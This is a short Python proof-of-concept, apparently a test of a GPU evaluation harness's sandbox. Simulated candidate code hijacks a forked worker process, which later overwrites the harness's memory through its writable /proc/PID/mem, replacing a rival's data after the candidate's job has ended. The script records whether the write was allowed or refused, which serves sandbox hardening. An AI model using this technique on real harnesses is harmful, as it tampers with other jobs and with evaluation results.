# ruff: noqa
# Stand-in for a GPU device's harness (first process of the jail): ref.py's fork pool started
# at import (ref.py's process: infra, now kept on a GPU device too); "candidate code" in the
# harness hijacks the pool's worker through the pool's task pipe; later, with the
# candidate's job over, the worker writes into the harness's memory through the harness's
# own writable /proc/PID (workers.jail own_proc) -- any process of the sandbox can open it.
import ctypes, multiprocessing as mp, os, sys, time
pool = mp.get_context("fork").Pool(1)             # ref.py's import
secret = ctypes.create_string_buffer(b"HONEST-RIVAL-CODE", 32)
addr = ctypes.addressof(secret)
libc = ctypes.CDLL(None)
libc.prctl(0x59616d61, ctypes.c_ulong(-1 & 0xffffffffffffffff), 0, 0, 0)  # PR_SET_PTRACER_ANY (Yama 1)
# --- candidate code (its job) ---
payload = f'''
import os, threading, time
def later():
    time.sleep(0.5)          # the candidate's job is over; a rival's runs
    try:
        fd = os.open("/proc/%d/mem" % os.getppid(), os.O_RDWR)
        os.pwrite(fd, b"PATCHED-BY-WORKER", {addr})
        os.close(fd)
        r = "written"
    except OSError as e:
        r = "refused: " + os.strerror(e.errno)
    open("{sys.argv[1]}/worker-said", "w").write(r)
threading.Thread(target=later).start()
'''
pool.apply(exec, (payload, {}))
# --- the candidate's job ends; the next job's memory ---
time.sleep(1.5)
print("worker:", open(f"{sys.argv[1]}/worker-said").read(), "| harness memory now:", secret.value)
